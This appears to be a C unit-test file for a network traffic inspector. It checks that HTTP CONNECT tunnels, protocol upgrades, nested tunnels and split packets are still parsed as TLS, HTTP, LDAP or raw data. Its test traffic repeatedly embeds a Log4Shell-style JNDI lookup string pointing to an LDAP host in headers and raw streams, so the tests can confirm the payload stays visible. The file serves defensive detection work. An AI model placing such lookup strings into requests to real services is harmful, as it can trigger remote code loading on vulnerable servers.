/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "inspect/talk.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdlib.h>

#include <cmocka.h>

#include "base/count.h"
#include "inspect/hold.h"
#include "support/conversation.h"
#include "support/wire.h"

/* A connection that changes its protocol: tunnels and upgrades, whatever is inside. */

#define CONNECT   BYTES_LIT("CONNECT 203.0.113.9:443 HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n")
#define CONNECTED BYTES_LIT("HTTP/1.1 200 Connection established\r\n\r\n")
#define LOOKUP    "${jndi:ldap://203.0.113.9/a}"

static struct transcript play(const struct said *said, unsigned n)
{
    struct config config = conversation_config();
    struct conversation c = {.said = said, .n = n, .proto = PROTO_TCP};
    struct transcript t;

    count_reset();
    conversation_play(&c, &config, &t);
    assert_int_equal(holds_bytes(), 0);
    return t;
}

static void same_in_pieces(const struct said *said, unsigned n)
{
    struct config config = conversation_config();

    conversation_assert_same_in_pieces(said, n, &config);
}

static void tls_in_a_tunnel(void **state)
{
    struct said said[] = {{0, CONNECT, 0},
                          {1, CONNECTED, 0},
                          {0, wire_tls_client_hello, 0},
                          {1, wire_tls_server_hello, 0},
                          {0, BYTES_LIT("\x17\x03\x03\x00\x10................"), 0}};
    struct transcript t = play(said, 5);

    (void)state;
    assert_int_equal(counters[COUNT_INSPECT_TLS], 1);
    assert_int_equal(counters[COUNT_INSPECT_GAVE_UP], 0);
    assert_true(bytes_eq(buf_bytes(&t.raw[0]), wire_tls_client_hello));
    transcript_drop(&t);
}

static void http_in_a_tunnel(void **state)
{
    struct said said[] = {{0, CONNECT, 0},
                          {1, CONNECTED, 0},
                          {0, BYTES_LIT("GET /inside HTTP/1.1\r\nX: " LOOKUP "\r\n\r\n"), 0},
                          {1, BYTES_LIT("HTTP/1.1 404 Not here\r\nContent-Length: 0\r\n\r\n"), 0}};
    struct transcript t = play(said, 4);

    (void)state;
    assert_true(transcript_has(&t, "0 http http.request_head #0 CONNECT"));
    assert_true(transcript_has(&t, "0 http http.request_head #1 GET /inside"));
    assert_true(transcript_has(&t, "1 http http.response_head #1 HTTP/1.1 404"));
    assert_int_equal(t.raw[0].len, 0);
    assert_int_equal(counters[COUNT_INSPECT_HTTP], 2);
    transcript_drop(&t);
    same_in_pieces(said, 4);
}

static void ldap_in_a_tunnel(void **state)
{
    struct said said[] = {
        {0, CONNECT, 0}, {1, CONNECTED, 0}, {0, wire_ldap_search, 0}, {1, wire_ldap_entry, 0}};
    struct transcript t = play(said, 4);

    (void)state;
    assert_true(transcript_has(&t, "0 ldap ldap.search_base #"));
    assert_true(
        transcript_has(&t, "1 ldap fact #1 ldap.client=jndi;ldap.responses.operation=search_result_entry;"));
    transcript_drop(&t);
    same_in_pieces(said, 4);
}

static void unknown_after_an_upgrade(void **state)
{
    struct said said[] = {
        {0, BYTES_LIT("GET / HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: chat\r\n\r\n"), 0},
        {1, BYTES_LIT("HTTP/1.1 101 Switching\r\nConnection: Upgrade\r\nUpgrade: chat\r\n\r\nHi"), 0},
        {0, BYTES_LIT("\x01\x02 " LOOKUP), 0}};
    struct transcript t = play(said, 3);

    (void)state;
    assert_true(bytes_eq(buf_bytes(&t.raw[0]), said[2].data));
    assert_true(bytes_eq(buf_bytes(&t.raw[1]), BYTES_LIT("Hi")));
    assert_int_equal(counters[COUNT_INSPECT_RAW], 1);
    transcript_drop(&t);
    same_in_pieces(said, 3);
}

/* The head of the inner request has begun before the tunnel was there: nothing of it is lost. */
static void early_bytes(void **state)
{
    struct said said[] = {{0, CONNECT, 0},
                          {0, BYTES_LIT("\x16\x03"), 0},
                          {1, CONNECTED, 0},
                          {0, bytes_from(wire_tls_client_hello, 2), 0},
                          {1, wire_tls_server_hello, 0}};
    struct said text[] = {
        {0, CONNECT, 0}, {0, BYTES_LIT("HA"), 0}, {1, CONNECTED, 0}, {0, BYTES_LIT("LLO " LOOKUP "\n"), 0}};
    struct transcript t = play(said, 5);

    (void)state;
    assert_true(bytes_eq(buf_bytes(&t.raw[0]), wire_tls_client_hello));
    transcript_drop(&t);
    t = play(text, 4);
    assert_true(bytes_eq(buf_bytes(&t.raw[0]), BYTES_LIT("HALLO " LOOKUP "\n")));
    transcript_drop(&t);
}

static void hole_at_the_change(void **state)
{
    struct said said[] = {{0, CONNECT, 0},
                          {1, CONNECTED, 0},
                          {0, BYTES_LIT("GET /inside HTTP/1.1\r\n\r\n"), 70},
                          {1, BYTES_LIT("HTTP/1.1 404 Not here\r\n\r\n"), 0}};
    struct transcript t = play(said, 4);

    (void)state;
    assert_true(transcript_has(&t, "0 http http.request_head #1 GET /inside"));
    transcript_drop(&t);
}

/* Each level costs a state: beyond the ceiling the bytes are still seen. */
static void tunnels_in_tunnels(void **state)
{
    struct said said[2 * (TALKS_MAX_CHANGES + 3)];
    unsigned n = sizeof said / sizeof said[0];
    struct transcript t;

    (void)state;
    for (unsigned i = 0; i < n; i += 2) {
        said[i] = (struct said){0, CONNECT, 0};
        said[i + 1] = (struct said){1, CONNECTED, 0};
    }
    said[n - 2].data = BYTES_LIT("GET / HTTP/1.1\r\nX: " LOOKUP "\r\n\r\n");
    t = play(said, n);
    assert_int_equal(counters[COUNT_INSPECT_HTTP], TALKS_MAX_CHANGES + 1);
    assert_true(transcript_raw_has(&t, 0, LOOKUP));
    transcript_drop(&t);
}

/* One side alone goes from tunnel to tunnel: it leaves its states behind as it goes, and the other finds its
 * way. */
static void one_side_ahead(void **state)
{
    struct said said[] = {
        {1, BYTES_LIT("HTTP/1.1 101 a\r\n\r\nHTTP/1.1 101 b\r\n\r\nHTTP/1.1 101 c\r\n\r\nx"), 0},
        {0, BYTES_LIT("GET /late HTTP/1.1\r\n\r\n"), 0},
        {0, BYTES_LIT("more " LOOKUP), 0}};
    struct transcript t = play(said, 3);

    (void)state;
    assert_true(transcript_raw_has(&t, 0, LOOKUP));
    assert_true(transcript_has(&t, "GET /late"));
    transcript_drop(&t);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(tls_in_a_tunnel),    cmocka_unit_test(http_in_a_tunnel),
        cmocka_unit_test(ldap_in_a_tunnel),   cmocka_unit_test(unknown_after_an_upgrade),
        cmocka_unit_test(early_bytes),        cmocka_unit_test(hole_at_the_change),
        cmocka_unit_test(tunnels_in_tunnels), cmocka_unit_test(one_side_ahead),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
